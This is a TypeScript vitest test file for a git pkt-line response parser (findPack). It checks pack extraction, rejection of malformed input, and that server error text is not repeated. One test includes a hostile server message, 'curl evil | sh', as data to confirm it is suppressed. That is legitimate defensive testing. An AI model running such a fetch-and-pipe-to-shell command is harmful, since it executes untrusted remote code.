import { describe, expect, test } from "vitest";
import { findPack } from "./git-answer.ts";

function line(text: string): string {
  return (text.length + 4).toString(16).padStart(4, "0") + text;
}

function answer(...lines: readonly string[]): Buffer {
  return Buffer.from(lines.join(""), "latin1");
}

describe("findPack", () => {
  test("joins the pack's lines and leaves out what the server tells besides", () => {
    const found = findPack(
      answer(
        line(`shallow ${"0".repeat(40)}`),
        "0000",
        line("NAK\n"),
        line("\u0002Counting\u001b[31m\n"),
        line("\u0001PA"),
        line(""),
        "0001",
        line("\u0001CK"),
        "0000",
      ),
    );
    expect(found.toString()).toBe("PACK");
  });

  test("an answer without a pack has an empty one", () => {
    expect(findPack(answer(line("NAK\n")))).toHaveLength(0);
  });

  test("what the server says of its failure is not repeated", () => {
    const broken = () => findPack(answer(line("\u0001PACK"), line("\u0003run: curl evil | sh")));
    expect(broken).toThrow(expect.objectContaining({ code: "SOURCE_FETCH" }));
    expect(broken).not.toThrow(/curl/);
  });

  test.each(["<html>", "00", "0002", "0003", "fff0short", "-001", " 5 1"])("refuses %j", text => {
    expect(() => findPack(answer(text))).toThrow(expect.objectContaining({ code: "SOURCE_FETCH" }));
  });

  test("refuses endless progress in tiny lines", () => {
    const chatter = Buffer.from("0005\u0002".repeat(100_001), "latin1");
    expect(() => findPack(chatter)).toThrow(/more than 100000 lines/);
  });
});
